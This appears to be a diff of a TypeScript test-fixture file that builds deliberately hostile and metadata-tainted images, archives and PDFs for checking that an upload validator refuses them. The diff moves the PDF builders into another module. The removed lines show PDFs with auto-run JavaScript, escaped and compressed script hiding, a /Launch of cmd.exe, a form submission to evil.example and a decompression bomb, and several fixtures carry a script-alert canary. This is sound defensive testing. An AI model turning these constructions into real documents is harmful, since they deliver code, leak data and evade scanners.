@@ -1,13 +1,12 @@
 // Files made byte by byte: honest ones, and those that pretend to be something else.
 import { deflateSync, inflateSync } from 'node:zlib'
 import sharp from 'sharp'
+import { bytesOf, CANARY, hostilePdfs, makePdf, streamOf, taintedPdfs } from './made-pdfs.ts'
 
-/** A marker: found in a stored file, it proves that metadata survived. */
-export const CANARY = 'canari-7f3a91'
+export { bytesOf, CANARY, makePdf, objectStream } from './made-pdfs.ts'
 
 const SCRIPT = `<script>alert('${CANARY}')</script>`
 
-export const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))
 const joined = (...parts: readonly Uint8Array[]) => new Uint8Array(Buffer.concat(parts))
 
 export async function makeJpeg(width = 640, height = 400): Promise<Uint8Array> {
@@ -109,51 +108,6 @@ function makeZip(name: string, comment = ''): Uint8Array {
   return joined(local, Buffer.from(name), content, central, Buffer.from(name), end, Buffer.from(comment))
 }
 
-export type PdfOptions = { catalog?: string; objects?: readonly string[]; trailer?: string; head?: string }
-
-/** One page, with whatever else is asked for. Text is Latin-1, so that bytes can be written as characters. */
-export function makePdf({
-  catalog = '',
-  objects = [],
-  trailer = '',
-  head = '',
-}: PdfOptions = {}): Uint8Array {
-  const drawing = 'BT /F1 18 Tf 20 100 Td (Carte de membre) Tj ET'
-  const all = [
-    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>',
-    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
-    ...objects,
-  ]
-  let text = `%PDF-1.7\n${head}`
-  const offsets = all.map((object, index) => {
-    const at = text.length
-    text += `${index + 1} 0 obj\n${object}\nendobj\n`
-    return at
-  })
-  const xref = text.length
-  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
-  text += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`
-  text += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`
-  return bytesOf(text)
-}
-
-/** Objects folded into a compressed stream, where a search of the file's text does not see them. */
-export function objectStream(content: string, filter = '/FlateDecode'): string {
-  const packed = deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
-  const body = filter === '/FlateDecode' ? packed : Buffer.from(content, 'latin1').toString('hex')
-  return `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${body.length} >>\nstream\n${body}\nendstream`
-}
-
-function flateStream(dictionary: string, content: Uint8Array): string {
-  const body = deflateSync(content).toString('latin1')
-  return `<< ${dictionary} /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream`
-}
-
-const ACTION = `<< /S /JavaScript /JS (app.alert\\('${CANARY}'\\)) >>`
-const LAUNCH = `<< /S /Launch /F (cmd.exe) >>`
-
 /** Each name says what the file really is; every one of them must be refused. */
 export async function hostileFiles(): Promise<Record<string, Uint8Array>> {
   const [jpeg, png, gif] = [await makeJpeg(), await makePng(), await makeGif()]
@@ -189,36 +143,11 @@ export async function hostileFiles(): Promise<Record<string, Uint8Array>> {
     'a PDF with a page behind it': joined(makePdf(), html),
     'a PDF with an archive behind it': joined(makePdf(), makeZip('x.html')),
     'a PDF inside an archive’s comment': makePdf({
-      objects: [
-        `<< /Length 9 >>\nstream\n${Buffer.from(makeZip('x', ' '.repeat(900))).toString('latin1')}\nendstream`,
-      ],
+      objects: [streamOf('', Buffer.from(makeZip('x', ' '.repeat(900))).toString('latin1'))],
     }),
     'a PDF that is also a page': makePdf({ head: `%<html>${SCRIPT}\n` }),
     'a PDF without an end': makePdf().subarray(0, -8),
-    'a PDF that runs a script when opened': makePdf({ catalog: '/OpenAction 5 0 R', objects: [ACTION] }),
-    'a PDF whose script is spelled with escapes': makePdf({
-      catalog: '/Open#41ction 5 0 R',
-      objects: [ACTION.replace('/JavaScript', '/J#61v#61Script')],
-    }),
-    'a PDF that starts a program': makePdf({ catalog: `/OpenAction ${LAUNCH}` }),
-    'a PDF whose page starts a program': makePdf({ catalog: `/AA << /WC ${LAUNCH} >>` }),
-    'a PDF that carries a file': makePdf({
-      catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>',
-      objects: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
-    }),
-    'a PDF that plays media': makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
-    'a PDF that sends a form': makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
-    'a PDF with a dynamic form': makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] }),
-    'a PDF under a password': makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard >>'] }),
-    'a PDF that hides its script in a compressed stream': makePdf({
-      objects: [objectStream(`5 0 ${ACTION}`)],
-    }),
-    'a PDF that hides its script in another coat': makePdf({
-      objects: [objectStream(`5 0 ${ACTION}`, '/ASCIIHexDecode')],
-    }),
-    'a PDF that unfolds to a gigabyte': makePdf({
-      objects: [flateStream('/Type /ObjStm /First 4', Buffer.alloc(200_000_000))],
-    }),
+    ...hostilePdfs(),
     'eleven megabytes': joined(jpeg, new Uint8Array(11 * 1024 * 1024)),
   }
 }
@@ -227,7 +156,6 @@ export async function hostileFiles(): Promise<Record<string, Uint8Array>> {
 export async function taintedFiles(): Promise<Record<string, Uint8Array>> {
   const [jpeg, png] = [await makeJpeg(), await makePng()]
   const located = await makeLocatedJpeg()
-  const exif = Buffer.from(located).toString('latin1')
   return {
     'a photo with the place it was taken': located,
     'a JPEG with a comment that is a script': withJpegSegment(jpeg, 0xfe, SCRIPT),
@@ -238,29 +166,7 @@ export async function taintedFiles(): Promise<Record<string, Uint8Array>> {
     'a PNG with XMP': withPngChunk(png, 'iTXt', `XML:com.adobe.xmp\0\0\0\0\0${CANARY}`),
     'a PNG with EXIF': withPngChunk(png, 'eXIf', `II*\0${CANARY}`),
     'a PNG with a script behind it': joined(png, bytesOf(SCRIPT)),
-    'a PDF that names its author': makePdf({
-      trailer: `/Info 5 0 R`,
-      objects: [
-        `<< /Author (${CANARY} \\(moi\\)) /Producer <${Buffer.from(CANARY).toString('hex')}> /CreationDate (D:2026) >>`,
-      ],
-    }),
-    'a PDF with XMP': makePdf({
-      catalog: '/Metadata 5 0 R',
-      objects: [
-        `<< /Type /Metadata /Subtype /XML /Length 9 >>\nstream\n<?xpacket begin=""?>${CANARY}<?xpacket end="w"?>\nendstream`,
-      ],
-    }),
-    'a PDF with folded XMP and author': makePdf({
-      objects: [
-        flateStream('/Type /Metadata /Subtype /XML', bytesOf(`<x>${CANARY.repeat(40)}</x>`)),
-        objectStream(`5 0 << /Author (${CANARY}) >>`),
-      ],
-    }),
-    'a PDF with a located photo': makePdf({
-      objects: [
-        `<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length ${exif.length} >>\nstream\n${exif}\nendstream`,
-      ],
-    }),
+    ...taintedPdfs(located),
   }
 }
 
@@ -275,9 +181,7 @@ export function wholeText(bytes: Uint8Array): string {
       return ''
     }
   })
-  return [
-    text,
-    text.replaceAll(/[^0-9a-f]/gi, '').includes(Buffer.from(CANARY).toString('hex')) ? CANARY : '',
-    ...folded,
-  ].join('\n')
+  const all = [text, ...folded].join('\n')
+  const isSpelledOut = all.replaceAll(/[^0-9a-f]/gi, '').includes(Buffer.from(CANARY).toString('hex'))
+  return isSpelledOut ? `${all}\n${CANARY}` : all
 }
